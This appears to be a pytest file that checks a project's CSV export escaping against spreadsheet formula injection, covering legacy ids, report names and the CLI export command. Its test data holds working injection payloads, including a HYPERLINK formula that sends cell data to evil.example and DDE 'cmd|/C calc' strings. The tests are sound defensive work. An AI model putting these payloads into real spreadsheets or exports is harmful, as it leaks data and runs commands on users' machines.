"""Exported CSV cells are safe from spreadsheet formula injection (OWASP's CSV-injection guidance).

Issue 15: `legacy export-migrated` wrote a legacy id `=HYPERLINK(...)` as it was, so opening the
export in a spreadsheet ran it. Every CSV export goes through clarity_tui.services.csv_safe:
a cell starting with = + - @ tab CR (LF, NUL) gets a leading single quote, except a plain decimal
number (a report's -12.50 stays a number that SUM adds).
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from pathlib import Path

import pytest

from clarity_tui.services.csv_safe import dict_writer, escape_cell, writer
from clarity_tui.services.legacy import export_migrated, write_export_csv
from clarity_tui.services.reports import Line, ShiftReport
from db.models import LegacyMember, utcnow
from tests.helpers.cli import run_cli

ROOT = Path(__file__).resolve().parents[2]
HOSTILE = {
    "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"click\")": "'=HYPERLINK(\"http://evil.example/?d=\"&A1,\"click\")",
    "+1+cmd|' /C calc'!A0": "'+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0": "'-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0": "'@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1": "'\t'=1+1",  # a tab-splitting reader would see "=1+1" after the tab
    "\r=1+1": "'\r=1+1",
}


@pytest.mark.parametrize(("value", "written"), [
    *HOSTILE.items(),
    ("\n=1+1", "'\n=1+1"),
    ("-A1", "'-A1"),
    ("-", "'-"),
    ("-12.50", "-12.50"),  # a plain number: left as it is, so it stays a number
    ("12.50", "12.50"),
    ("-3", "-3"),
    ("-1e5", "'-1e5"),  # not a plain decimal: escaped
    ("SW1001", "SW1001"),
    ("a=b", "a=b"),  # only the first character matters
    ("", ""),
    (None, None),
    (-1250, -1250),
    (-12.5, -12.5),
])
def test_escape_cell(value: object, written: object) -> None:
    assert escape_cell(value) == written


def test_writers_escape_every_cell_and_keep_quoting() -> None:
    out = io.StringIO()
    w = writer(out, lineterminator="\n")
    w.writerow(["=1+1", "ok", "-12.50", 'say "hi", =2'])
    d = dict_writer(out, fieldnames=["@id", "amount"], lineterminator="\n")
    d.writeheader()
    d.writerows([{"@id": "@x", "amount": -3}])
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [
        ["'=1+1", "ok", "-12.50", 'say "hi", =2'], ["'@id", "amount"], ["'@x", "-3"]]


def _migrated(db, legacy_ids: list[str], by: str) -> None:  # noqa: ANN001
    with db.write() as s:
        for lid in legacy_ids:
            s.add(LegacyMember(source_system="sitewatch", legacy_id=lid, first_name="X", last_name="Y",
                               migrated_at=utcnow(), migrated_by=by, migrated_terminal="=lane-1"))


def test_export_migrated_escapes_hostile_ids_on_both_databases(db, settings, tmp_path: Path) -> None:  # noqa: ANN001
    _migrated(db, list(HOSTILE), by="=cmd|' /C calc'!A0")
    rows = export_migrated(db)
    buf = io.StringIO()
    write_export_csv(rows, buf)
    parsed = list(csv.DictReader(io.StringIO(buf.getvalue())))
    assert sorted(r["legacy_id"] for r in parsed) == sorted(HOSTILE.values())
    assert {r["migrated_by"] for r in parsed} == {"'=cmd|' /C calc'!A0"}
    assert {r["terminal"] for r in parsed} == {"'=lane-1"}
    assert all(r["migrated_at"][:4].isdigit() for r in parsed)  # ordinary cells untouched
    # The command as an operator runs it, to a file and to standard output.
    target = tmp_path / "migrated.csv"
    out = run_cli("--db", settings.database_url, "legacy", "export-migrated", "-o", str(target))
    assert out.returncode == 0, out.stderr
    cells = [c for row in csv.reader(io.StringIO(target.read_text(encoding="utf-8"))) for c in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r") and not re.fullmatch(r"-?\d+(\.\d+)?", c)]
    stdout = run_cli("--db", settings.database_url, "legacy", "export-migrated")
    assert stdout.returncode == 0 and "'=HYPERLINK(" in stdout.stdout and ",=HYPERLINK(" not in stdout.stdout
    nowhere = run_cli("--db", settings.database_url, "legacy", "export-migrated", "-o", str(tmp_path / "no" / "x.csv"))
    assert nowhere.returncode == 2 and nowhere.stderr.count("\n") == 1 and "cannot write" in nowhere.stderr


def test_report_csv_escapes_names_and_keeps_negative_amounts_numbers() -> None:
    start = dt.datetime(2027, 3, 1, tzinfo=dt.UTC)
    report = ShiftReport(title="=Shift 1: @evil at lane", start=start, end=start + dt.timedelta(hours=8),
                         sold_by_plan=[Line("=HYPERLINK(\"http://evil.example\")", 2, 5998)],
                         by_operator=[Line("+Morgan", 2, 5998)],
                         lane_charges=Line("lane_charges", 1, 0), tax_collected=Line("tax_collected", 1, 1250))
    rows = list(csv.reader(io.StringIO(report.to_csv())))
    assert rows[0][1] == "'=Shift 1: @evil at lane"
    groups = {r[1]: r for r in rows[2:]}
    assert "'=HYPERLINK(\"http://evil.example\")" in groups and "'+Morgan" in groups
    assert groups["net_of_tax"][3] == "-12.50"  # a negative amount stays a number


def test_every_csv_export_in_the_code_base_goes_through_csv_safe() -> None:
    """No module writes CSV with the bare csv module: only csv_safe does."""
    offenders = []
    for path in sorted((ROOT / "clarity_tui").rglob("*.py")) + sorted((ROOT / "db").rglob("*.py")):
        text = path.read_text(encoding="utf-8")
        if re.search(r"\bcsv\.(writer|DictWriter)\b", text) and path.name != "csv_safe.py":
            offenders.append(str(path.relative_to(ROOT)))
    assert offenders == []


def test_a_semicolon_or_tab_inside_a_cell_cannot_start_a_second_cell() -> None:
    # A spreadsheet in a `;` locale (or one splitting on tabs) would cut `X;=cmd` into a cell "=cmd".
    out = io.StringIO()
    writer(out, lineterminator="\n").writerow(["L1", "X;=cmd|' /C calc'!A0", "Y\t+1+1", "a,@SUM(1)", 42, "-12.50"])
    line = out.getvalue()
    assert list(csv.reader(io.StringIO(line))) == [
        ["L1", "X;'=cmd|' /C calc'!A0", "Y\t'+1+1", "a,'@SUM(1)", "42", "-12.50"]]
    for separator in (";", "\t", ","):  # however the file is split, no piece starts a formula
        for piece in list(csv.reader(io.StringIO(line), delimiter=separator, quoting=csv.QUOTE_NONE))[0]:
            assert not piece.strip('"').startswith(("=", "+", "@")), (separator, piece)
